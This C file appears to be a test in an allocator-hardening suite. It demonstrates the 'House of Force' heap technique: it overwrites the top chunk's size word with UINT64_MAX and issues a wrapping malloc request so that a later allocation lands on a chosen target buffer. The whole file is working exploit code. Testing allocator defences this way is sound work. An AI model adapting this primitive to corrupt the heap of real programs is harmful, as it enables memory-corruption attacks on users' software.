/* House of force: an overflow out of the last block before the top chunk overwrites the
 * top's size word with the largest value, so the top seems to cover the whole address
 * space. A request of (target - top) then moves the top to the target, and the next
 * malloc returns the target. glibc >= 2.29 checks the top size; requests past PTRDIFF_MAX
 * fail anyway. */
#include <errno.h>

#include "attack.h"

static _Alignas(64) unsigned char target[4096];

int main(int argc, char **argv)
{
    size_t request = attack_request(attack_tier(argc, argv));
    char *a = malloc(request);
    size_t usable = malloc_usable_size(a);
    poke(a, (ptrdiff_t)usable, UINT64_MAX); /* the top chunk's size */

    uintptr_t top = (uintptr_t)a + usable - GLIBC_SIZE_WORD;
    size_t distance = (uintptr_t)target - top - 2 * GLIBC_HEADER; /* wraps: target is below */
    void *far = malloc(distance);
    void *hit = malloc(request);
    if (overlaps(hit, request, target, sizeof target) || overlaps(far, 1, target, sizeof target))
        attack_succeeded("malloc returned %p / %p; the target is %p", far, hit, (void *)target);
    free(hit);
    free(far);
    free(a);
    attack_failed("the top size was not trusted");
}
